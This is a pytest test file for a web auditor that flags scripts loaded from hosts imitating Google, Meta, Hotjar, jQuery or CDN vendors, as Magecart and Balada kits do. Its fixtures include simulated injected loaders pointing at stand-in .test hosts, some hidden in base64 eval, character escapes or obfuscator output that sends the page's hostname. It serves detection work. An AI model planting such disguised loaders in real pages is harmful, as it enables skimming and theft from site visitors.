"""Vendor look-alikes: a vendor's install snippet, as its documentation gives it, whose
script URL is swapped for a host that imitates the vendor (how Magecart and Balada kits
hide their loader), against the same snippets loading from the vendor, from the site's
own host (server-side GTM, a `/gtag/js` proxy, Cloudflare Zaraz, a self-hosted copy) or
from a first-party proxy on another host. Every page is one we wrote; the IDs are made up.
"""

from __future__ import annotations

import base64
import json
import sys
from collections.abc import Sequence

import pytest

from auditor.catalogue import Catalogue, Owner
from auditor.gate.interface import PageRules
from auditor.gate.verdict import evaluate_page
from auditor.model import Origin, PageReport, RequestType, Severity, report_networks
from auditor.urls import host_of
from tests.terminal import terminal_report

from .conftest import AuditHtml, AuditListed

URL = "https://www.tidewaterpress.example/2026/11/harbour-dredging/"


def page(head: str, *, top: str = "") -> str:
    """A news page with `head` after its charset (where a template prints tags) and `top`
    before it."""
    return f"""<!DOCTYPE html>
<html lang="en"><head>{top}
<meta charset="utf-8"><title>Harbour dredging starts in spring</title>
{head}
</head><body><main><article><h1>Harbour dredging starts in spring</h1>
<p>The port authority said the dredging of the inner harbour will start in March and
last eleven weeks, with the ferry berth kept open throughout.</p></article></main>
</body></html>"""


def ga_universal(src: str) -> str:
    """analytics.js, as Google's Universal Analytics install page gave it."""
    return f"""<script>
(function(i,s,o,g,r,a,m){{i['GoogleAnalyticsObject']=r;i[r]=i[r]||function(){{
(i[r].q=i[r].q||[]).push(arguments)}},i[r].l=1*new Date();a=s.createElement(o),
m=s.getElementsByTagName(o)[0];a.async=1;a.src=g;m.parentNode.insertBefore(a,m)
}})(window,document,'script','{src}','ga');
ga('create', 'UA-48213377-1', 'auto');
ga('send', 'pageview');
</script>"""


def gtag(src: str) -> str:
    """The Google tag (gtag.js) for a GA4 measurement ID, as GA4's setup shows it."""
    return f"""<script async src="{src}?id=G-7QX4KD2M9P"></script>
<script>
  window.dataLayer = window.dataLayer || [];
  function gtag(){{dataLayer.push(arguments);}}
  gtag('js', new Date());
  gtag('config', 'G-7QX4KD2M9P');
</script>"""


def gtm(src: str) -> str:
    """Google Tag Manager's container snippet."""
    return f"""<script>(function(w,d,s,l,i){{w[l]=w[l]||[];w[l].push({{'gtm.start':
new Date().getTime(),event:'gtm.js'}});var f=d.getElementsByTagName(s)[0],
j=d.createElement(s),dl=l!='dataLayer'?'&l='+l:'';j.async=true;j.src=
'{src}?id='+i+dl;f.parentNode.insertBefore(j,f);
}})(window,document,'script','dataLayer','GTM-K7PQ2XD');</script>"""


def meta_pixel(src: str) -> str:
    """The Meta (Facebook) pixel base code."""
    return f"""<script>
!function(f,b,e,v,n,t,s)
{{if(f.fbq)return;n=f.fbq=function(){{n.callMethod?
n.callMethod.apply(n,arguments):n.queue.push(arguments)}};
if(!f._fbq)f._fbq=n;n.push=n;n.loaded=!0;n.version='2.0';
n.queue=[];t=b.createElement(e);t.async=!0;
t.src=v;s=b.getElementsByTagName(e)[0];
s.parentNode.insertBefore(t,s)}}(window, document,'script',
'{src}');
fbq('init', '418820317734519');
fbq('track', 'PageView');
</script>"""


def hotjar(src: str) -> str:
    """Hotjar's tracking code."""
    return f"""<script>
(function(h,o,t,j,a,r){{
h.hj=h.hj||function(){{(h.hj.q=h.hj.q||[]).push(arguments)}};
h._hjSettings={{hjid:2718281,hjsv:6}};
a=o.getElementsByTagName('head')[0];
r=o.createElement('script');r.async=1;
r.src=t+h._hjSettings.hjid+j+h._hjSettings.hjsv;
a.appendChild(r);
}})(window,document,'{src}','.js?sv=');
</script>"""


def clarity(src: str) -> str:
    """Microsoft Clarity's tracking code."""
    return f"""<script type="text/javascript">
(function(c,l,a,r,i,t,y){{
c[a]=c[a]||function(){{(c[a].q=c[a].q||[]).push(arguments)}};
t=l.createElement(r);t.async=1;t.src="{src}"+i;
y=l.getElementsByTagName(r)[0];y.parentNode.insertBefore(t,y);
}})(window, document, "clarity", "script", "k3x9q2m7pd");
</script>"""


def taboola(src: str) -> str:
    """Taboola's loader snippet, as its publisher integration gives it."""
    return f"""<script type="text/javascript">
  window._taboola = window._taboola || [];
  _taboola.push({{article:'auto'}});
  !function (e, f, u, i) {{
    if (!document.getElementById(i)){{
      e.async = 1; e.src = u; e.id = i;
      f.parentNode.insertBefore(e, f);
    }}
  }}(document.createElement('script'), document.getElementsByTagName('script')[0],
  '{src}', 'tb_loader_script');
</script>"""


GA, GTM = "Google Analytics", "Google Tag Manager"
PIXEL, HOTJAR, CLARITY = "Facebook Pixel", "Hotjar", "Microsoft Clarity"

# (case, head, the vendor the snippet names, its ID, the look-alike URL)
LOOKALIKES = [
    ("ga-misspelt-tagmanager", ga_universal("https://www.googletagsmanager.test/analytics.js"),
     GA, "UA-48213377-1", "https://www.googletagsmanager.test/analytics.js"),
    # the capital I caught; the evidence is the URL as requested, its host in lower case
    ("ga-capital-i", ga_universal("https://www.googIe-analytics.com/analytics.js"),
     GA, "UA-48213377-1", "https://www.googie-analytics.com/analytics.js"),
    ("gtag-vendor-as-subdomain",
     gtag("https://google-analytics.com.cdn-stats.example/gtag/js"), GA, "G-7QX4KD2M9P",
     "https://google-analytics.com.cdn-stats.example/gtag/js?id=G-7QX4KD2M9P"),
    ("gtm", gtm("https://www.googletagsmanager.test/gtm.js"), GTM, "GTM-K7PQ2XD",
     "https://www.googletagsmanager.test/gtm.js?id="),
    ("meta-pixel", meta_pixel("https://connect.facebook-cdn.test/en_US/fbevents.js"), PIXEL,
     "418820317734519", "https://connect.facebook-cdn.test/en_US/fbevents.js"),
    # the vendor's name beside a word of the host's own: the pixel's host names Meta's
    # domain only in its URL patterns (`facebook.com/tr?`)
    ("meta-pixel-vendor-name", meta_pixel("https://connect-facebook.test/en_US/fbevents.js"),
     PIXEL, "418820317734519", "https://connect-facebook.test/en_US/fbevents.js"),
    ("hotjar", hotjar("https://static.hotjar-cdn.test/c/hotjar-"), HOTJAR, "2718281",
     "https://static.hotjar-cdn.test/c/hotjar-"),
    ("clarity", clarity("https://www.clarity-ms.test/tag/"), CLARITY, "k3x9q2m7pd",
     "https://www.clarity-ms.test/tag/"),
]


def _named(report: PageReport) -> set[str]:
    return {n.network for n in report.networks}


@pytest.mark.parametrize(("case", "head", "vendor", "ident", "url"), LOOKALIKES,
                         ids=[c[0] for c in LOOKALIKES])
def test_a_snippet_loading_from_a_lookalike_is_flagged_and_not_the_vendors(
        audit_html: AuditHtml, case: str, head: str, vendor: str, ident: str, url: str
) -> None:
    report = audit_html(page(head), URL)
    found = [f for f in report.findings if f.kind == "lookalike-script"]
    assert [(f.severity, f.evidence) for f in found] == [(Severity.HIGH, url)]
    assert vendor in found[0].message
    # the vendor is not run: no network, no request of its (no loader a snippet template
    # would build), and its ID is the look-alike's, saying which host
    assert vendor not in _named(report)
    assert vendor not in report_networks(report.resources, report.slots, report.ids)
    assert not [r for r in report.resources if r.network == vendor]
    ids = [i for i in report.ids if i.value == ident]
    assert [(i.network, i.origin) for i in ids] == [(vendor, Origin.LOOKALIKE)]
    assert f"loads from {host_of(url)}," in (ids[0].why or "")
    listed = json.loads(json.dumps(report.to_dict()))
    assert {"value": ident, "origin": "lookalike"}.items() <= next(
        i for i in listed["ids"] if i["value"] == ident).items()
    assert vendor not in {n["network"] for n in listed["networks"]}


def test_the_terminal_report_says_whose_the_id_is(audit_html: AuditHtml) -> None:
    report = audit_html(page(ga_universal("https://www.googletagsmanager.test/analytics.js")),
                        URL)
    text = terminal_report(report)
    assert "UA-48213377-1 (look-alike: its snippet loads from www.googletagsmanager.test" in text
    assert "lookalike-script" in text


def test_one_finding_for_a_lookalike_at_the_top_of_head(audit_html: AuditHtml) -> None:
    """Balada's place (before the charset) and the look-alike are one injection."""
    report = audit_html(page("", top=ga_universal(
        "https://www.googletagsmanager.test/analytics.js")), URL)
    assert [f.kind for f in report.findings if f.severity is Severity.HIGH] == [
        "lookalike-script"]


def test_a_lookalike_tag_with_no_config_is_named_by_the_id_in_its_url(
        audit_html: AuditHtml) -> None:
    head = ('<script async src="https://google-analytics.com.cdn-stats.example/gtag/js'
            '?id=G-7QX4KD2M9P"></script>')
    report = audit_html(page(head), URL)
    assert [(f.kind, f.severity) for f in report.findings] == [
        ("lookalike-script", Severity.HIGH)]
    assert GA not in _named(report)


def test_beside_the_vendors_real_tag_only_the_lookalikes_own_id_is_its(
        audit_html: AuditHtml) -> None:
    """The real tag loads too: the vendor runs and its ID is the operator's; the ID only
    the look-alike's snippet holds is the look-alike's."""
    head = (gtag("https://www.googletagmanager.com/gtag/js")
            + ga_universal("https://www.googletagsmanager.test/analytics.js"))
    report = audit_html(page(head), URL)
    assert [f.kind for f in report.findings if f.severity is Severity.HIGH] == [
        "lookalike-script"]
    assert GA in _named(report)
    assert {i.value: i.origin for i in report.ids if i.network == GA} == {
        "G-7QX4KD2M9P": Origin.OPERATOR, "UA-48213377-1": Origin.LOOKALIKE}


def test_a_lookalike_sharing_the_real_tags_id_leaves_it_the_operators(
        audit_html: AuditHtml) -> None:
    """One ID in the real tag and in the look-alike's snippet: the real tag's account."""
    head = (gtag("https://www.googletagmanager.com/gtag/js")
            + gtag("https://www.googletagsmanager.test/gtag/js"))
    report = audit_html(page(head), URL)
    assert [f.kind for f in report.findings if f.severity is Severity.HIGH] == [
        "lookalike-script"]
    assert {i.value: i.origin for i in report.ids if i.network == GA} == {
        "G-7QX4KD2M9P": Origin.OPERATOR}


def test_the_longest_loader_path_names_the_vendor(audit_html: AuditHtml) -> None:
    """gtag.js for an Ads conversion ID is Google Ads', as the catalogue names the real
    URL, even on a page that runs Analytics too."""
    head = (gtag("https://www.googletagmanager.com/gtag/js")
            + '<script async src="https://www.googletagsmanager.test/gtag/js?id=AW-918273645">'
            "</script><script>gtag('config', 'AW-918273645');</script>")
    report = audit_html(page(head), URL)
    [found] = [f for f in report.findings if f.kind == "lookalike-script"]
    assert found.message.startswith("Google Ads snippet")
    assert {i.value: i.origin for i in report.ids if i.network == "Google Ads"} == {
        "AW-918273645": Origin.LOOKALIKE}
    assert "Google Ads" not in _named(report) and GA in _named(report)


SITE_URL = "https://www.tidewaterpress.example"
# (case, head, the vendor its snippet names): the vendor's own loader, the site's own host
# or sister domain, a plain host no brand is borrowed by, a tag-hosting service
GENUINE = [
    ("ga-vendor", ga_universal("https://www.google-analytics.com/analytics.js"), GA),
    ("gtag-vendor", gtag("https://www.googletagmanager.com/gtag/js"), GA),
    ("gtm-vendor", gtm("https://www.googletagmanager.com/gtm.js"), GTM),
    ("pixel-vendor", meta_pixel("https://connect.facebook.net/en_US/fbevents.js"), PIXEL),
    ("hotjar-vendor", hotjar("https://static.hotjar.com/c/hotjar-"), HOTJAR),
    ("clarity-vendor", clarity("https://www.clarity.ms/tag/"), CLARITY),
    # Taboola China's own domain, which serves its loader to Chinese publishers' pages
    ("taboola-china-vendor", taboola("//cdn.taboola.com.cn/libtrc/harbour-press/loader.js")
     + '<script src="https://cdn.taboola.com.cn/libtrc/impl.20260101-1-RELEASE.js"></script>',
     "Taboola"),
    ("server-side-gtm", gtm("https://sgtm.tidewaterpress.example/gtm.js"), GTM),
    ("server-side-gtm-on-stape", gtm("https://ab1cd2ef.eu.stape.io/gtm.js"), GTM),
    ("gtag-proxy-next", gtag("/_next/gtag/js"), GA),
    ("gtag-proxy-sister-domain", gtag("https://metrics.tidewaterpress-cdn.example/gtag/js"),
     GA),
    ("zaraz", gtag("/cdn-cgi/zaraz/gtag/js")
     + '<script src="/cdn-cgi/zaraz/i.js" referrerpolicy="origin"></script>', GA),
    ("self-hosted-copy", ga_universal(f"{SITE_URL}/assets/js/analytics.js"), GA),
    ("self-hosted-on-site-cdn", ga_universal("https://static.tidewaterpress.example/analytics.js"),
     GA),
    ("first-party-proxy-own-name", ga_universal("https://metrics.harbourdata.example/analytics.js"),
     GA),
]


@pytest.mark.parametrize(("case", "head", "vendor"), GENUINE, ids=[c[0] for c in GENUINE])
def test_the_vendor_own_host_or_proxy_is_no_lookalike(
        audit_html: AuditHtml, case: str, head: str, vendor: str) -> None:
    report = audit_html(page(head), URL)
    assert not [f for f in report.findings if f.severity is not Severity.LOW], report.findings
    assert vendor in _named(report)
    assert {i.origin for i in report.ids if i.network == vendor} == {Origin.OPERATOR}


@pytest.mark.parametrize("host", ["cdn.taboola.com.cn.cdn-stats.example", "cdn.taboola-cn.example"])
def test_taboola_chinas_domain_worn_by_another_host_is_a_lookalike(
        audit_html: AuditHtml, host: str) -> None:
    """Taboola China's own domain (`taboola.com.cn`) is Taboola's; a host wearing it as a
    subdomain of another site, or its name beside other words, is not."""
    report = audit_html(page(taboola(f"//{host}/libtrc/harbour-press/loader.js")), URL)
    found = [f for f in report.findings if f.kind == "lookalike-script"]
    assert [(f.severity, host_of(f.evidence)) for f in found] == [(Severity.HIGH, host)]


def test_with_the_system_lists(audit_listed: AuditListed) -> None:
    """A look-alike the filter lists block (EasyPrivacy's `/gtag/js`) is flagged all the
    same, and the real tag beside it is not."""
    fake = audit_listed(page(gtag("https://google-analytics.com.cdn-stats.example/gtag/js")),
                        URL)
    real = audit_listed(page(gtag("https://www.googletagmanager.com/gtag/js")), URL)
    assert [f.kind for f in fake.findings if f.severity is Severity.HIGH] == ["lookalike-script"]
    assert not [f for f in real.findings if f.severity is not Severity.LOW]
    assert GA in _named(real) and GA not in _named(fake)


def test_the_gate_judges_the_lookalike_not_the_vendor(audit_html: AuditHtml) -> None:
    """A policy denying Google Analytics fails the real tag and not the look-alike, which
    runs none of Google's code; a policy failing on the kind (or on high) fails the
    look-alike."""
    fake = audit_html(page(ga_universal("https://www.googletagsmanager.test/analytics.js")),
                      URL)
    real = audit_html(page(ga_universal("https://www.google-analytics.com/analytics.js")),
                      URL)
    deny = PageRules(deny_networks=(GA,))
    assert evaluate_page(fake, "fake.html", deny) == []
    assert [v.clause for v in evaluate_page(real, "real.html", deny)] == ["deny_networks"]
    for rules in (PageRules(fail_on_findings=("lookalike-script",)),
                  PageRules(fail_on_severity=Severity.HIGH)):
        assert [v.rule_id for v in evaluate_page(fake, "fake.html", rules)] == [
            "lookalike-script"]
        assert evaluate_page(real, "real.html", rules) == []


def test_a_real_snippet_beside_a_lookalike_keeps_its_loader(audit_html: AuditHtml) -> None:
    """The real Hotjar snippet's loader (built from its partial literal) stays a request
    of the page beside a look-alike Hotjar snippet with another site ID."""
    fake = hotjar("https://static.hotjar-cdn.test/c/hotjar-").replace("2718281", "3141592")
    report = audit_html(page(hotjar("https://static.hotjar.com/c/hotjar-") + fake), URL)
    assert [f.kind for f in report.findings if f.severity is Severity.HIGH] == [
        "lookalike-script"]
    assert HOTJAR in _named(report)
    assert [r.url for r in report.resources if r.network == HOTJAR] == [
        "https://static.hotjar.com/c/hotjar-2718281.js"]
    assert {i.value: i.origin for i in report.ids if i.network == HOTJAR} == {
        "2718281": Origin.OPERATOR, "3141592": Origin.LOOKALIKE}


# (case, head): a host of a CDN's words alone that is the site's own CDN (it serves the
# page's stylesheet and images too), a site's own `analytics.js` no snippet of Google's
# loads, and an image under `/tag/` beside Clarity: none borrows a vendor's name
SITE_FILES = [
    ("gtag-on-the-sites-cdn",
     '<link rel="stylesheet" href="https://static-assets-cdn.example/css/site.css">'
     + gtag("https://static-assets-cdn.example/js/gtag.js")
     + '<link rel="icon" href="https://static-assets-cdn.example/img/favicon.png">'),
    ("own-analytics-wrapper", gtag("https://www.googletagmanager.com/gtag/js")
     + '<script src="https://assets-cdn.example/js/analytics.js"></script>'),
    ("image-under-tag", clarity("https://www.clarity.ms/tag/")
     + '<link rel="preload" as="image" href="https://static-cdn.example/tag/harbour.png">'),
]


@pytest.mark.parametrize(("case", "head"), SITE_FILES, ids=[c[0] for c in SITE_FILES])
def test_a_cdn_named_host_of_the_sites_own_files_is_no_lookalike(
        audit_html: AuditHtml, case: str, head: str) -> None:
    report = audit_html(page(head), URL)
    assert not [f for f in report.findings if f.kind == "lookalike-script"], report.findings
    assert {i.origin for i in report.ids} <= {Origin.OPERATOR}


def test_a_cdn_named_host_serving_only_the_snippets_loader_is_one(
        audit_html: AuditHtml) -> None:
    """The same host serving the vendor's snippet its loader and no theme file of the
    page (another script is a kit's fake jQuery as likely), or the brand-dressed host
    beside the site's files, stays a look-alike."""
    alone = audit_html(page(gtag("https://static-assets-cdn.example/js/gtag.js")
                            + '<script src="https://static-assets-cdn.example/jquery.min.js">'
                            "</script>"), URL)
    beside = audit_html(page(
        '<link rel="stylesheet" href="https://www.googletagsmanager.test/css/site.css">'
        + gtag("https://www.googletagsmanager.test/gtag/js")), URL)
    # Google's own endpoint (`/gtag/js`, no file) on a CDN-worded host whose one
    # stylesheet a kit adds beside it: the site's CDN serves a file it copied
    shaped = audit_html(page(
        '<link rel="stylesheet" href="https://static-assets-cdn.example/css/site.css">'
        + gtag("https://static-assets-cdn.example/gtag/js")), URL)
    for report in (alone, beside, shaped):
        assert [f.kind for f in report.findings if f.severity is Severity.HIGH] == [
            "lookalike-script"]


def matomo(tracker: str) -> str:
    """Matomo's tracking code, as its install page gives it, for a tracker at `tracker`."""
    return f"""<script>
  var _paq = window._paq = window._paq || [];
  _paq.push(['trackPageView']);
  _paq.push(['enableLinkTracking']);
  (function() {{
    var u="{tracker}";
    _paq.push(['setTrackerUrl', u+'matomo.php']);
    _paq.push(['setSiteId', '14']);
    var d=document, g=d.createElement('script'), s=d.getElementsByTagName('script')[0];
    g.async=true; g.src=u+'matomo.js'; s.parentNode.insertBefore(g,s);
  }})();
</script>"""


def test_matomo_on_an_agencys_matomo_host_is_its_install(audit_html: AuditHtml) -> None:
    """Matomo is software its users host, on a `matomo.` host of their own or their
    agency's: the vendor's name there is no borrowed one. A host of a CDN's words loading
    it is still a look-alike."""
    agency = audit_html(page(matomo("https://matomo.webagentur-nord.example/")), URL)
    assert not [f for f in agency.findings if f.kind == "lookalike-script"], agency.findings
    assert "Matomo" in _named(agency)
    fake = audit_html(page(matomo("https://static.stats-cdn-analytics.example/")), URL)
    assert [f.kind for f in fake.findings if f.severity is Severity.HIGH] == [
        "lookalike-script"]


def test_each_lookalike_names_its_own_id_not_every_one(audit_html: AuditHtml) -> None:
    """A kit page of many look-alike snippets, each with its own ID: each finding named
    every look-alike ID of the vendor (6,000 snippets: 36 million names, 97 s and 4 GB);
    it names its own, and a look-alike whose snippet holds none names the vendor's first
    few."""
    heads = [ga_universal(f"https://www.googletagsmanager.test/analytics.js?v={n}")
             .replace("UA-48213377-1", f"UA-{48213377 + n}-1") for n in range(40)]
    report = audit_html(page("".join(heads)), URL)
    found = [f for f in report.findings if f.kind == "lookalike-script"]
    assert len(found) == 40
    assert [f.message.split("its ID ")[1].split(" ")[0] for f in found] == [
        f"UA-{48213377 + n}-1" for n in range(40)]
    bare = ('<script async src="https://www.googletagsmanager.test/gtag/js"></script>'
            + "".join(f"<script>gtag('config', 'G-{n:04d}ABCDEF');</script>" for n in range(8)))
    (alone,) = [f for f in audit_html(page(bare), URL).findings
                if f.kind == "lookalike-script"]
    assert alone.message.endswith("G-0004ABCDEF and 3 more is not counted as "
                                  "Google Analytics's"), alone.message


def test_each_lookalike_id_names_the_host_its_snippet_loads_from(audit_html: AuditHtml) -> None:
    """Two look-alikes of one vendor on two hosts: each ID's `why` names its own snippet's
    host (both named the first look-alike's)."""
    head = (ga_universal("https://www.googletagsmanager.test/analytics.js")
            + ga_universal("https://www.googIe-analytics.com/analytics.js")
            .replace("UA-48213377-1", "UA-51234567-2"))
    report = audit_html(page(head), URL)
    assert {i.value: i.why.split(" loads from ")[1].split(",")[0] for i in report.ids
            if i.network == GA} == {"UA-48213377-1": "www.googletagsmanager.test",
                                    "UA-51234567-2": "www.googie-analytics.com"}


# --- a library's file from a look-alike of its CDN ----------------------------------------
# Magecart and Balada kits serve their loader as `jquery.min.js` from a host named after
# jQuery or its CDNs (`jquery-cdn`, `code.jquery-lib`, `cdn-jsdelivr`), so that the tag passes
# for the copy every theme loads. The tags are written as jQuery's and Bootstrap's download
# pages and the public CDNs give them; the hosts are ours (reserved `.test` names).

def tag(src: str) -> str:
    return f'<script src="{src}" crossorigin="anonymous"></script>'


LIBRARY_LOOKALIKES = [
    ("jquery-cdn", "https://jquery-cdn.test/jquery-3.7.1.min.js", "jQuery", "jquery"),
    ("code.jquery-lib", "https://code.jquery-lib.test/jquery.min.js", "jQuery", "jquery"),
    ("jqeury misspelt", "https://ajax.jqeury.test/libs/jquery/3.7.1/jquery.min.js", "jQuery",
     "jquery"),
    ("jsdelivr dressed", "https://cdn-jsdelivr.test/npm/jquery@3.7.1/dist/jquery.min.js",
     "jQuery", "jsdelivr"),
    ("bootstrap dressed", "https://bootstrap-cdn-libs.test/5.3.3/js/bootstrap.bundle.min.js",
     "Bootstrap", "bootstrap"),
    ("a tenant named as jquery", "https://cdn-jquery.netlify.app/jquery-migrate.min.js",
     "jQuery", "jquery"),
]


@pytest.mark.parametrize(("case", "src", "library", "dressed"), LIBRARY_LOOKALIKES,
                         ids=[c[0] for c in LIBRARY_LOOKALIKES])
def test_a_library_from_a_lookalike_of_its_cdn_is_flagged(
        audit_html: AuditHtml, case: str, src: str, library: str, dressed: str) -> None:
    report = audit_html(page(tag(src)), url=URL)
    assert [(f.kind, f.severity, f.evidence) for f in report.findings] == [
        ("lookalike-script", Severity.HIGH, src)], case
    message = report.findings[0].message
    assert f"named as {library}" in message and f"dressed as {dressed}" in message


GENUINE_LIBRARIES = [
    ("code.jquery.com", "https://code.jquery.com/jquery-3.7.1.min.js"),
    ("cdnjs", "https://cdnjs.cloudflare.com/ajax/libs/jquery/3.7.1/jquery.min.js"),
    ("google hosted libraries", "https://ajax.googleapis.com/ajax/libs/jquery/3.7.1/jquery.min.js"),
    ("jsdelivr", "https://cdn.jsdelivr.net/npm/jquery@3.7.1/dist/jquery.min.js"),
    ("unpkg", "https://unpkg.com/jquery@3.7.1/dist/jquery.min.js"),
    ("bootstrapcdn", "https://stackpath.bootstrapcdn.com/bootstrap/4.6.2/js/bootstrap.min.js"),
    ("jetpack's site accelerator", "https://c0.wp.com/c/6.4.2/wp-includes/js/jquery/jquery.min.js"),
    ("microsoft's cdn", "https://ajax.aspnetcdn.com/ajax/jQuery/jquery-3.7.1.min.js"),
    # tenants of shared CDNs: the CDN's name is no brand the tenant borrows
    ("cloudfront tenant", "https://d3k81ch9hvuctc.cloudfront.net/js/jquery.min.js"),
    ("bunny tenant", "https://tidewaterpress.b-cdn.net/wp-includes/js/jquery/jquery.min.js"),
    ("bunny tenant named jquery", "https://code-jquery.b-cdn.net/jquery-3.7.1.min.js"),
    ("fastly tenant", "https://tidewater.global.ssl.fastly.net/js/jquery.min.js"),
    ("akamai tenant", "https://tidewater.akamaized.net/js/jquery.min.js"),
    # the site's own copy, its CDN named after it, a plain unknown host (a self-hosted copy)
    ("the site's own", "https://www.tidewaterpress.example/wp-includes/js/jquery/jquery.min.js"),
    ("the site's cdn", "https://cdn.tidewaterpress-static.example/js/jquery.min.js"),
    ("a plain unknown host", "https://assets.harbourmedia.example/js/jquery.min.js"),
    # a CDN's words alone: a site's CDN is named so too (no brand borrowed)
    ("a cdn's words", "https://static-cdn-libs.example/js/jquery.min.js"),
    # a file of the brand's host that names no library
    ("jquery-dressed host, another file", "https://jquery-cdn.test/widget.js"),
]


@pytest.mark.parametrize(("case", "src"), GENUINE_LIBRARIES, ids=[c[0] for c in GENUINE_LIBRARIES])
def test_a_library_from_its_cdn_a_tenant_or_the_site_is_no_lookalike(
        audit_html: AuditHtml, case: str, src: str) -> None:
    report = audit_html(page(tag(src)), url=URL)
    assert [f.kind for f in report.findings if f.kind == "lookalike-script"] == [], case


def test_a_tenant_proxy_of_a_vendors_loader_is_no_lookalike(audit_html: AuditHtml) -> None:
    """A site serving Hotjar's or GA's loader through its own pull zone on a shared CDN
    (bunny, CloudFront) names the vendor in its tenant's name: the CDN runs the host,
    so it borrows no brand."""
    for head in (hotjar("https://tidewater-hotjar.b-cdn.net/c/hotjar-"),
                 hotjar("https://d1hotjar.cloudfront.net/c/hotjar-"),
                 ga_universal("https://google-analytics.b-cdn.net/analytics.js")):
        report = audit_html(page(head), url=URL)
        assert [f.kind for f in report.findings if f.kind == "lookalike-script"] == [], head


def test_one_finding_for_a_library_lookalike_outside_the_template(audit_html: AuditHtml
                                                                   ) -> None:
    """Echoed before the charset, the fake jQuery is one injection: `lookalike-script`
    says it, not `appended-script` as well."""
    report = audit_html(page("", top=tag("https://jquery-cdn.test/jquery.min.js")), url=URL)
    assert [(f.kind, f.severity) for f in report.findings] == [
        ("lookalike-script", Severity.HIGH)]


def test_a_fake_jquery_hidden_in_an_encoding_is_one_finding(audit_html: AuditHtml) -> None:
    """A loader whose fake jQuery's address is in base64 is `obfuscated-script`'s high,
    which names the URL: not a look-alike as well (one injection, one finding)."""
    loader = ("var s=document.createElement('script');s.src='https://cdn.jquery-min.test/"
              "jquery.min.js?v=3.7';document.head.appendChild(s);")
    code = f"<script>eval(atob('{base64.b64encode(loader.encode()).decode()}'))</script>"
    report = audit_html(page(code), url=URL)
    assert [(f.kind, f.severity) for f in report.findings] == [
        ("obfuscated-script", Severity.HIGH)]
def test_the_catalogue_is_asked_once_whose_the_candidate_hosts_are(
        audit_html: AuditHtml, monkeypatch: pytest.MonkeyPatch) -> None:
    """A page of the vendors' own tags and one look-alike: the hosts that may be one (a
    brand's name in it, or a vendor's loader) are looked up together, not one by one."""
    asked: list[list[str]] = []
    real = Catalogue.owners_of

    def counted(self: Catalogue, requests: Sequence[tuple[str, str]],
                *types: Sequence[RequestType] | None) -> list[Owner]:
        if sys._getframe(1).f_code.co_name == "lookalike_loads":
            asked.append([host for _, host in requests])
        return real(self, requests, *types)

    monkeypatch.setattr(Catalogue, "owners_of", counted)
    head = "".join(h for _, h, _ in GENUINE[:6]) + gtag(
        "https://www.googletagsmanager.test/gtag/js")
    report = audit_html(page(head), URL)
    assert [f.kind for f in report.findings if f.severity is Severity.HIGH] == [
        "lookalike-script"]
    assert len(asked) == 1 and "www.googletagsmanager.test" in asked[0]


@pytest.mark.parametrize("escape", ["\\x{:02x}", "\\u{:04x}"])
def test_a_fake_jquery_in_a_literal_of_escapes_is_one_finding(audit_html: AuditHtml,
                                                               escape: str) -> None:
    """A loader whose fake jQuery's address is a literal of `\\x68\\x74…` or `\\u0068…`
    escapes names no host as written: the walk reads the literal (via `inline-script`,
    not `inline-decoded`), `obfuscated-script` names the load high, and it is not a
    look-alike as well (two highs for one injection once e445433 read a brand-dressed
    host's jQuery). Written in plain sight, the same loader is the look-alike's."""
    url = "https://code.jquery-cdn.test/ajax/libs/jquery/3.7.1/jquery.min.js"
    hidden = "".join(escape.format(ord(c)) for c in url)
    loader = ("<script>var s=document.createElement('script');s.src='{}';"
              "document.head.appendChild(s);</script>")
    report = audit_html(page(loader.format(hidden)), url=URL)
    assert [(f.kind, f.severity) for f in report.findings] == [
        ("obfuscated-script", Severity.HIGH)]
    report = audit_html(page(loader.format(url)), url=URL)
    assert [(f.kind, f.severity) for f in report.findings] == [
        ("lookalike-script", Severity.HIGH)]


# javascript-obfuscator's output with its string table left plain: the table names the
# URL in plain sight, the rotated accessor's calls create the script and load it
_OBFUSCATOR_LOADER = (
    "(function(_0x1a2b3c,_0x4d5e6f){var _0x2b3c4d=_0x5e6f,_0x3c4d5e=_0x1a2b3c();"
    "while(!![]){try{var _0x4d5e6f7=parseInt(_0x2b3c4d(0x1a0))/0x1+-parseInt(_0x2b3c4d(0x1a1))"
    "/0x2;if(_0x4d5e6f7===_0x4d5e6f)break;else _0x3c4d5e['push'](_0x3c4d5e['shift']());}"
    "catch(_0x5e6f70){_0x3c4d5e['push'](_0x3c4d5e['shift']());}}}(_0x1b2c,0x6b3d1));"
    "function _0x1b2c(){var _0x6f7081=[\"URL\",\"createElement\",\"script\",\"src\",\"head\","
    "\"appendChild\",\"async\",\"location\",\"hostname\"];_0x1b2c=function(){return _0x6f7081;};"
    "return _0x1b2c();}function _0x5e6f(_0x708192,_0x8192a3){var _0x92a3b4=_0x1b2c();"
    "return _0x5e6f=function(_0xa3b4c5,_0xb4c5d6){_0xa3b4c5=_0xa3b4c5-0x1a0;"
    "var _0xc5d6e7=_0x92a3b4[_0xa3b4c5];return _0xc5d6e7;},_0x5e6f(_0x708192,_0x8192a3);}"
    "(function(){var _0x1=_0x5e6f,_0x2=document[_0x1(0x1a1)](_0x1(0x1a2));"
    "_0x2[_0x1(0x1a3)]=_0x1(0x1a0)+'?d='+window[_0x1(0x1a7)][_0x1(0x1a8)];"
    "_0x2[_0x1(0x1a6)]=!![];document[_0x1(0x1a4)][_0x1(0x1a5)](_0x2);}());")


def test_a_fake_jquery_in_an_obfuscators_plain_table_is_one_finding(
        audit_html: AuditHtml) -> None:
    """javascript-obfuscator's code whose plain string table holds a fake jQuery's URL:
    `obfuscated-script` reads the table's URL as loaded (4c49e61) and names it high; the
    URL in plain sight in the table was a `lookalike-script` high too (e445433), two
    highs for one injection, where 00974b6 means one."""
    url = "https://code.jquery-cdn.test/ajax/libs/jquery/3.7.1/jquery.min.js"
    code = _OBFUSCATOR_LOADER.replace("URL", url)
    report = audit_html(page("").replace("</main>", f"</main><script>{code}</script>"),
                        url=URL)
    assert [(f.kind, f.severity) for f in report.findings] == [
        ("obfuscated-script", Severity.HIGH)]
    assert url in report.findings[0].message


@pytest.mark.parametrize("url", [
    "https://jqueryui.com/resources/demos/external/jquery/jquery.js",
    "https://static.jquery.org/jquery.min.js",
    "https://code.jquerymobile.com/1.4.5/jquery.mobile-1.4.5.min.js",
])
def test_jquerys_own_project_sites_are_no_lookalike(audit_html: AuditHtml, url: str) -> None:
    """jQuery UI's demos serve jQuery (`external/jquery/jquery.js`, copied whole from a
    demo's source) and jquery.org is the project's own: a host of the jQuery project is
    no host dressed as jQuery (a high `lookalike-script` since e445433, when the
